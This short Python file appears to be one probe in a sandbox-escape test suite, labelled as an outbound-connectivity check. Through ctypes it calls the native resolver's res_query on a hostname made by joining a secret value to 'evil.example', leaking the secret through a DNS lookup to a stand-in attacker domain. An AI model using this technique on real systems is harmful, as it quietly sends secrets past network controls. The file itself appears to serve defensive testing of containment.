# class: network
# rule: outbound_connectivity
# also: native_code
# success: a name that carries data is looked up by res_query
# proof: query
# needs: resolver
import ctypes
import ctypes.util

from attack import SECRET, attempt


@attempt
def ask():
    try:
        resolver = ctypes.CDLL("libresolv.so.2")
        query = getattr(resolver, "__res_query", None) or resolver.res_query
    except (OSError, AttributeError):
        query = ctypes.CDLL("libc.so.6").__getattr__("__res_query")
    return (
        query((SECRET + ".evil.example").encode(), 1, 1, ctypes.create_string_buffer(512), 512) > 0
    )
